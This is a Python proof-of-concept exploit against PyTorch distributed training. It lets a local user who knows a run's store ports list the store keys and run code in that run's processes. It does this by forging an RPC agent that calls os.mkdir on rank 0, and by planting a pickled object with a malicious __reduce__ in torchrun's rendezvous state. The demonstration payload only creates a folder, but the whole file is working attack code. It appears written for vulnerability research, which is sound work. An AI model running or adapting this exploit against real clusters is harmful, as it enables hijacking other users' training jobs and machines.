"""A program of another user of this machine, who knows the ports at which the launcher of a run listens, and no more.

It tries to have a folder made by the run's processes, which is the first argument; the ports are the others. First as a
rank of torch.distributed.rpc, by the addresses that a store may have; then by a state that torchrun's launcher may read
from its store. It writes what it found in the stores.
"""

import base64
import os
import pickle
import sys
import time
from contextlib import suppress
from datetime import timedelta

import torch.distributed as dist
import torch.distributed.autograd as rpc_autograd
from torch._C._distributed_rpc import TensorPipeAgent
from torch.distributed import rpc
from torch.distributed.rpc import api

_RPC = "rpc_prefix_0/addrs/rank-0"
_NOBODY = 65534


class Order:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.mkdir, (sys.argv[1],)


def order_by_rpc(address: bytes) -> None:
    own = dist.HashStore()
    content = {"names/0": b"rank-0", "names/1": b"rank-1", "addrs/rank-0": address, "rpcIsStaticGroup": b"true"}
    for name, each in content.items():
        own.set(name, each)
    options = rpc.TensorPipeRpcBackendOptions(_transports=["uv"], rpc_timeout=10)
    agent = TensorPipeAgent(own, "rank-1", 1, 2, options, {}, [])
    rpc_autograd._init(1)
    api._init_rpc_states(agent)
    rpc.rpc_sync("rank-0", os.mkdir, args=(sys.argv[1],))


if os.getuid() == 0:
    os.setgid(_NOBODY)
    os.setuid(_NOBODY)
os.environ["TP_SOCKET_IFNAME"] = "lo"
stores = [dist.TCPStore("127.0.0.1", int(port), is_master=False, timeout=timedelta(seconds=5)) for port in sys.argv[2:]]
found = [(store, key) for store in stores for key in store.list_keys()]
sys.stdout.write("".join(f"{key}\n" for _, key in found))
sys.stdout.flush()
for store, key in found:
    if key.endswith(_RPC):
        with suppress(RuntimeError):
            order_by_rpc(store.get(key))
for store, key in found:
    if key.startswith("torch.rendezvous.") and "/" not in key:
        store.set(key, base64.b64encode(pickle.dumps(Order())))
        time.sleep(8)  # the launcher looks every five seconds
os._exit(0)
